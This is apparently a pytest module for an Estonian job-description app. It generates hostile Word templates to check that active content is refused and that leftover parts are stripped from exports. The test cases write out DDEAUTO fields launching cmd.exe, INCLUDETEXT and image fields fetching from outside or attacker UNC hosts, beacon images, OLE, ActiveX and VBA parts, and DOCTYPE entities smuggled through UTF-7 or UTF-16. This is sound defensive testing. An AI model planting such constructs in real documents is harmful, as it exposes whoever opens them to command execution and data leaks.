"""Hostile Word templates: active content is refused, leftovers and planted data left out.

Every template here is the shipped one with its XML edited in the zip the way Word would
write it. A refused one must say what it holds, in both languages, and the command line
must turn that into one line and exit code 2; an accepted one must give exports that hold
none of it, are well-formed in every part, and open back as our document.
"""

from __future__ import annotations

import codecs
import datetime as dt
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from lxml import etree

from ametijuhend_desktop import ajx
from ametijuhend_desktop.ajx import NS
from ametijuhend_desktop.cli import main
from ametijuhend_desktop.docx.batch import export_many
from ametijuhend_desktop.docx.export import export_document
from ametijuhend_desktop.docx.package import ITEM_NAME
from ametijuhend_desktop.docx.template import (
    TemplateError,
    check_template,
    default_template_path,
    load_template,
)
from ametijuhend_desktop.model import PostKind
from ametijuhend_desktop.opening import open_document

from .support import sample_document

NOW = dt.datetime(2026, 3, 4, tzinfo=dt.UTC)
SHIPPED = default_template_path()
DOC_RELS = "word/_rels/document.xml.rels"
OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
STRICT_CUSTOM_XML = "http://purl.oclc.org/ooxml/officeDocument/relationships/customXml"
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
A_NS = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
PIC_NS = 'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
# What an export may hold: the template's layout parts, our data and our properties.
EXPORT_PARTS = {
    "[Content_Types].xml", "_rels/.rels", "word/document.xml", DOC_RELS, "word/styles.xml",
    "word/settings.xml", "word/fontTable.xml", "word/theme/theme1.xml", "word/numbering.xml",
    "word/footer1.xml", "customXml/item1.xml", "customXml/_rels/item1.xml.rels",
    "customXml/itemProps1.xml", "docProps/core.xml", "docProps/app.xml",
}
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000185d114090000000049454e44ae426082"
)

Edit = Callable[[str], str]


@dataclass
class Hostile:
    """A template built from the shipped one: XML edits and added zip members."""

    edits: dict[str, list[Edit]] = field(default_factory=dict)
    added: dict[str, bytes] = field(default_factory=dict)
    raw: dict[str, Callable[[bytes], bytes]] = field(default_factory=dict)

    def edit(self, name: str, change: Edit) -> Hostile:
        self.edits.setdefault(name, []).append(change)
        return self

    def rel(self, rid: str, rel_type: str, target: str, *, external: bool = False,
            rels: str = DOC_RELS) -> Hostile:
        mode = ' TargetMode="External"' if external else ""
        line = f'<Relationship Id="{rid}" Type="{rel_type}" Target="{target}"{mode}/></Relationships>'
        if rels not in self.edits and rels not in _shipped_names():
            self.added[rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                                b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                b"</Relationships>")
        return self.edit(rels, lambda xml: xml.replace("</Relationships>", line))

    def part(self, name: str, content_type: str, data: bytes | str) -> Hostile:
        self.added[name] = data.encode() if isinstance(data, str) else data
        override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
        return self.edit("[Content_Types].xml", lambda xml: xml.replace("</Types>", override))

    def body(self, xml: str) -> Hostile:
        """Add WordprocessingML before the section properties of the body."""
        return self.edit("word/document.xml", lambda doc: doc.replace("<w:sectPr", xml + "<w:sectPr", 1))

    def footer(self, xml: str) -> Hostile:
        return self.edit("word/footer1.xml", lambda doc: doc.replace("</w:ftr>", xml + "</w:ftr>"))

    def write(self, path: Path) -> Path:
        with zipfile.ZipFile(SHIPPED) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
            members = {i.filename: src.read(i) for i in src.infolist()}
            members.update(self.added)
            for name, data in members.items():
                if name in self.edits:
                    text = data.decode("utf-8")
                    for change in self.edits[name]:
                        text = change(text)
                    data = text.encode("utf-8")
                if name in self.raw:
                    data = self.raw[name](data)
                dst.writestr(name, data)
        return path


def _shipped_names() -> set[str]:
    with zipfile.ZipFile(SHIPPED) as archive:
        return set(archive.namelist())


def fld(instr: str) -> str:
    instr = instr.replace('"', "&quot;")
    return f'<w:p><w:fldSimple w:instr="{instr}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def field_runs(*pieces: str) -> str:
    """A field as Word writes it when edited: begin, instruction split over runs (a piece
    that is itself runs, a nested field, goes in as it is), separate, result, end."""
    runs = "".join(p if p.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>'
                   for p in pieces)
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def complex_field(*pieces: str) -> str:
    return f"<w:p>{field_runs(*pieces)}</w:p>"


def picture(attr: str) -> str:
    return (f'<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="9" name="p"/>'
            f'<a:graphic {A_NS}><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            f'<pic:pic {PIC_NS}><pic:nvPicPr><pic:cNvPr id="9" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip {attr}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
            '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm>'
            '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
            "</a:graphic></wp:inline></w:drawing></w:r></w:p>")


def planted_ajx(title: str) -> bytes:
    doc = sample_document(PostKind.TOOTAJA)
    doc.general.job_title = title
    return ajx.to_bytes(doc)


def _reencode(encoding: str, head: str = "") -> Callable[[bytes], bytes]:
    """The part written in another encoding, its declaration saying so, ``head`` after it."""
    def change(data: bytes) -> bytes:
        text = data.decode("utf-8").split("?>", 1)[1]
        declared = f'<?xml version="1.0" encoding="{encoding}" standalone="yes"?>'
        if encoding == "UTF-7":  # every "<" as +ADw-, as an attacker writes it
            return declared.encode() + (head + text).encode("utf-7").replace(b"<", b"+ADw-")
        return codecs.BOM_UTF16_LE + (declared + head + text).encode("utf-16-le")
    return change


# -- the generator: name -> (template, what the check must say) -----------------------------

DTD = '<!DOCTYPE w:styles [<!ENTITY x "planted">]>'


def refused_cases() -> dict[str, tuple[Hostile, str, str]]:
    """Templates that must be refused: the template, words of the Estonian and English message."""
    ole_rel = OD + "oleObject"
    return {
        "includetext-url": (Hostile().body(fld(' INCLUDETEXT "http://example.invalid/x.docx" ')),
                            "INCLUDETEXT", "reads content from an outside"),
        "includepicture-unc-split": (
            Hostile().footer(complex_field(" INCLUDE", 'PICTURE "\\\\\\\\server\\\\share\\\\a.png" \\d ')),
            "INCLUDEPICTURE", "INCLUDEPICTURE"),
        "ddeauto-split": (Hostile().body(complex_field(" DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" ')),
                          "DDE-välja", "DDE field"),
        "dde-lowercase-simple": (Hostile().body(fld(' dde "cmd" "/c calc" ')), "DDE-välja", "DDE field"),
        "link-nested-in-if": (Hostile().body(complex_field(" IF 1 = 1 ", field_runs(' LINK Excel.Sheet.8 "C:\\\\a.xls" "" \\a '), ' "" ')),
                              "LINK", "LINK field"),
        "field-name-from-a-nested-field": (
            Hostile().body(complex_field(" ", field_runs(' QUOTE "DDEAUTO" '), ' cmd "/c calc" ')),
            "nime moodustab teine väli", "name is made by another field"),
        "include-in-footnotes": (
            Hostile().rel("rId90", OD + "footnotes", "footnotes.xml").part(
                "word/footnotes.xml", WML + "footnotes+xml",
                '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                '<w:footnote w:id="1">' + fld(' INCLUDETEXT "\\\\\\\\host\\\\x.docx" ') + "</w:footnote></w:footnotes>"),
            "INCLUDETEXT", "INCLUDETEXT"),
        "altchunk": (Hostile().rel("rId90", OD + "aFChunk", "afchunk.mht")
                     .part("word/afchunk.mht", "message/rfc822", "MIME-Version: 1.0\r\n\r\n<html/>")
                     .body(f'<w:altChunk {R_NS} r:id="rId90"/>'), "altChunk", "altChunk"),
        "altchunk-element-only": (Hostile().body("<w:altChunk/>"), "altChunk", "altChunk"),
        "ole-object": (Hostile().rel("rId90", ole_rel, "embeddings/oleObject1.bin")
                       .part("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", b"\xd0\xcf\x11\xe0")
                       .body(f'<w:p><w:r><w:object {R_NS}><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
                             'Type="Embed" ProgID="Package" r:id="rId90"/></w:object></w:r></w:p>'), "OLE", "OLE"),
        "activex-control": (Hostile().body(f'<w:p><w:r><w:object><w:control {R_NS} r:id="rId1"/></w:object></w:r></w:p>'),
                            "ActiveX", "ActiveX"),
        "vba-project-in-docx": (Hostile().rel("rId90", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
                                .part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0"),
                                "makrodega", "macros"),
        "external-image-link": (Hostile().rel("rId90", OD + "image", "http://example.invalid/beacon.png", external=True)
                                .body(picture(f'{R_NS} r:link="rId90"')), "välist linki", "outside file or address"),
        "image-as-hyperlink": (Hostile().rel("rId90", OD + "hyperlink", "http://example.invalid/beacon.png", external=True)
                               .body(picture(f'{R_NS} r:embed="rId90"')), "välist linki", "outside file or address"),
        "vml-image-as-hyperlink": (
            Hostile().rel("rId90", OD + "hyperlink", "\\\\\\\\attacker\\\\share\\\\a.png", external=True,
                          rels="word/_rels/footer1.xml.rels").footer(
                '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:1pt;height:1pt">'
                f'<v:imagedata {R_NS} r:id="rId90"/></v:shape></w:pict></w:r></w:p>'),
            "välist linki", "outside file or address"),
        "external-subdocument": (Hostile().rel("rId90", OD + "subDocument", "file:///c:/x.docx", external=True)
                                 .body(f'<w:subDoc {R_NS} r:id="rId90"/>'), "välist linki", "outside file"),
        "doctype-utf16": (Hostile(raw={"word/styles.xml": _reencode("UTF-16", DTD)}), "DOCTYPE", "DOCTYPE"),
        "doctype-utf7": (Hostile(raw={"word/styles.xml": _reencode("UTF-7", DTD)}), "UTF-7", "UTF-7"),
        "declared-latin1": (Hostile().edit("word/styles.xml", lambda xml: xml.replace("UTF-8", "ISO-8859-1", 1)),
                            "ISO-8859-1", "only UTF-8 or UTF-16"),
    }


def accepted_cases() -> dict[str, tuple[Hostile, str]]:
    """Templates whose leftovers are left out: the template and words of the note."""
    custom_props = "application/vnd.openxmlformats-officedocument.customXmlProperties+xml"
    return {
        "planted-data-strict-rel": (
            Hostile().rel("rId90", STRICT_CUSTOM_XML, "../customXml/item1.xml")
            .part("customXml/item1.xml", "application/xml", planted_ajx("ISTUTATUD"))
            .part("customXml/itemProps1.xml", custom_props, "<ds:datastoreItem ds:itemID=\"{0}\" "
                  'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>'),
            "customXml"),
        "planted-data-transitional-rel": (
            Hostile().rel("rId90", OD + "customXml", "../customXml/item0.xml")
            .part("customXml/item0.xml", "application/xml", planted_ajx("ISTUTATUD")), "customXml"),
        "planted-data-as-image": (
            Hostile().rel("rId90", OD + "image", "../customXml/item0.xml")
            .part("customXml/item0.xml", "image/png", planted_ajx("ISTUTATUD")), "customXml"),
        "planted-data-unrelated": (Hostile().part("customXml/item0.xml", "application/xml",
                                                  planted_ajx("ISTUTATUD")), ""),
        "attached-template-in-settings": (
            Hostile().rel("rId1", OD + "attachedTemplate", "http://example.invalid/x.dotm", external=True,
                          rels="word/_rels/settings.xml.rels")
            .edit("word/settings.xml", lambda xml: xml.replace(
                "<w:zoom ", f'<w:attachedTemplate {R_NS} r:id="rId1"/><w:zoom ')), "manustatud malliga"),
        "mail-merge-source": (
            Hostile().rel("rId1", OD + "mailMergeSource", "file:///C:/andmed.xlsx", external=True,
                          rels="word/_rels/settings.xml.rels")
            .edit("word/settings.xml", lambda xml: xml.replace(
                "<w:zoom ", f'<w:mailMerge {R_NS}><w:mainDocumentType w:val="formLetters"/>'
                '<w:dataSource r:id="rId1"/></w:mailMerge><w:zoom ')), "kirjakooste"),
        "comments": (
            Hostile().rel("rId90", OD + "comments", "comments.xml")
            .part("word/comments.xml", WML + "comments+xml",
                  '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                  '<w:comment w:id="0"><w:p><w:r><w:t>märkus</w:t></w:r></w:p></w:comment></w:comments>')
            .body('<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>a</w:t></w:r><w:commentRangeEnd w:id="0"/>'
                  '<w:r><w:commentReference w:id="0"/></w:r></w:p>'), "word/comments.xml"),
        "utf16-without-doctype": (Hostile(raw={"word/styles.xml": _reencode("UTF-16")}), ""),
    }


def write_hostile_templates(folder: Path) -> dict[str, Path]:
    """Every hostile template of this module written into ``folder`` (for a corpus)."""
    folder.mkdir(parents=True, exist_ok=True)
    cases = {**{k: v[0] for k, v in refused_cases().items()}, **{k: v[0] for k, v in accepted_cases().items()}}
    return {name: case.write(folder / f"mall-{name}.docx") for name, case in cases.items()}


REFUSED = refused_cases()
ACCEPTED = accepted_cases()


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("ajx") / "juhend.ajx"
    doc = sample_document(PostKind.AMETNIK)
    doc.general.job_title = "MEIE AMET"
    ajx.write_file(doc, path)
    return path


# -- refused -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_active_content_refuses_the_template(tmp_path: Path, name: str) -> None:
    case, et, en = REFUSED[name]
    path = case.write(tmp_path / "mall.docx")
    with pytest.raises(TemplateError) as info:
        check_template(path)
    error = info.value
    assert error.et.startswith("Wordi mall ei sobi") and et in error.et, error.et
    assert en in error.en, error.en
    out = tmp_path / "a.docx"
    with pytest.raises(TemplateError):
        export_document(sample_document(PostKind.AMETNIK), out, path, now=NOW)
    assert not out.exists()


@pytest.mark.parametrize("name", ["ddeauto-split", "ole-object", "doctype-utf7"])
def test_the_command_line_says_one_line_and_exits_2(
    tmp_path: Path, source: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = REFUSED[name][0].write(tmp_path / "mall.docx")
    out = tmp_path / "a.docx"
    assert main(["export", str(source), "-o", str(out), "--template", str(path), "--lang", "en"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "the Word template cannot be used" in err and "Traceback" not in err
    assert not out.exists()


# -- accepted, with leftovers left out -------------------------------------------------------


def export_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_leftovers_are_left_out_and_the_export_is_ours(tmp_path: Path, source: Path, name: str) -> None:
    case, note = ACCEPTED[name]
    path = case.write(tmp_path / "mall.docx")
    notes = check_template(path)
    if note:
        assert any(note in n.et for n in notes), notes
        assert all(n.en and n.en != n.et for n in notes)
    out = export_document(ajx.read_file(source), tmp_path / "a.docx", path, now=NOW)
    parts = export_parts(out)
    assert set(parts) <= EXPORT_PARTS, set(parts) - EXPORT_PARTS
    for part_name, blob in parts.items():
        root = etree.fromstring(blob)  # well-formed, as any reader sees it
        assert root.getroottree().docinfo.doctype == "" and b"ISTUTATUD" not in blob, part_name
    everything = b"".join(parts.values())
    for trace in (b"example.invalid", b"attachedTemplate", b"mailMerge", b"comment", b"andmed.xlsx"):
        assert trace not in everything, trace
    assert open_document(out).doc.general.job_title == "MEIE AMET"
    assert [p for p in parts if ITEM_NAME.match(p)] == ["customXml/item1.xml"]
    assert NS.encode() in parts["customXml/item1.xml"]


def _picture_and_link() -> Hostile:
    return (Hostile().rel("rId90", OD + "hyperlink", "https://www.riigiteataja.ee/", external=True)
            .rel("rId91", OD + "image", "media/logo.png").part("word/media/logo.png", "image/png", PNG)
            .body(f'<w:p><w:hyperlink {R_NS} r:id="rId90"><w:r><w:t>Riigi Teataja</w:t></w:r></w:hyperlink></w:p>')
            .body(picture(f'{R_NS} r:embed="rId91"')))


def test_a_plain_hyperlink_and_a_picture_are_kept(tmp_path: Path) -> None:
    path = _picture_and_link().write(tmp_path / "mall.docx")
    assert check_template(path) == ()
    parts = export_parts(export_document(sample_document(PostKind.TOOTAJA), tmp_path / "a.docx", path, now=NOW))
    assert parts["word/media/logo.png"] == PNG
    assert b"https://www.riigiteataja.ee/" in parts[DOC_RELS]


def test_the_generator_writes_every_case(tmp_path: Path) -> None:
    written = write_hostile_templates(tmp_path / "mallid")
    assert set(written) == set(REFUSED) | set(ACCEPTED)
    for name, path in written.items():
        if name in REFUSED:
            with pytest.raises(TemplateError):
                load_template(path)
        else:
            load_template(path)


@pytest.mark.slow
def test_exports_from_cleaned_templates_open_in_libreoffice(tmp_path: Path, source: Path) -> None:
    """LibreOffice renders every export whose template had its leftovers taken out."""
    if shutil.which("soffice") is None or shutil.which("pdftotext") is None:
        pytest.skip("LibreOffice/poppler missing: install libreoffice-writer-nogui and poppler-utils")
    doc = ajx.read_file(source)
    files = [export_document(doc, tmp_path / f"{name}.docx", case.write(tmp_path / f"mall-{name}.docx"), now=NOW)
             for name, (case, _note) in ACCEPTED.items()]
    files.append(export_document(doc, tmp_path / "pilt.docx", _picture_and_link().write(tmp_path / "p.docx"), now=NOW))
    subprocess.run(["soffice", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}", "--headless",
                    "--convert-to", "pdf", "--outdir", str(tmp_path), *map(str, files)],
                   check=True, capture_output=True, timeout=300)
    for path in files:
        text = subprocess.run(["pdftotext", str(path.with_suffix(".pdf")), "-"], check=True,
                              capture_output=True, text=True).stdout
        assert "MEIE AMET" in text and "ISTUTATUD" not in text, path.name
    assert "Riigi Teataja" in subprocess.run(["pdftotext", str(tmp_path / "pilt.pdf"), "-"],
                                             check=True, capture_output=True, text=True).stdout


# -- broken templates in a batch --------------------------------------------------------------


def _corrupt_deflate(path: Path) -> Path:
    """The shipped template with the compressed bytes of its styles part damaged."""
    data = bytearray(SHIPPED.read_bytes())
    with zipfile.ZipFile(SHIPPED) as archive:
        info = archive.getinfo("word/styles.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + 10 : start + 40] = b"\xff" * 30
    path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_damaged_template_gives_one_message_not_a_traceback(
    tmp_path: Path, source: Path, jobs: int, capsys: pytest.CaptureFixture[str]
) -> None:
    template = _corrupt_deflate(tmp_path / "katki.docx")
    with pytest.raises(TemplateError) as info:
        export_many([source, source], tmp_path / "out", template, jobs=jobs)
    assert "vigane" in info.value.et
    assert main(["export", str(source), str(source), "--out-dir", str(tmp_path / "out2"),
                 "--template", str(template), "-j", str(jobs)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Wordi mall ei sobi" in err and "Traceback" not in err
    assert not (tmp_path / "out2").exists() or not any((tmp_path / "out2").iterdir())


def test_the_command_line_says_what_the_template_leaves_out(
    tmp_path: Path, source: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = ACCEPTED["attached-template-in-settings"][0].write(tmp_path / "mall.docx")
    out = tmp_path / "a.docx"
    assert main(["export", str(source), "-o", str(out), "--template", str(path), "--lang", "en"]) == 0
    err = capsys.readouterr().err
    assert f"{path}: removed the link to an attached template (http://example.invalid/x.dotm)." in err
    assert open_document(out).doc.general.job_title == "MEIE AMET"
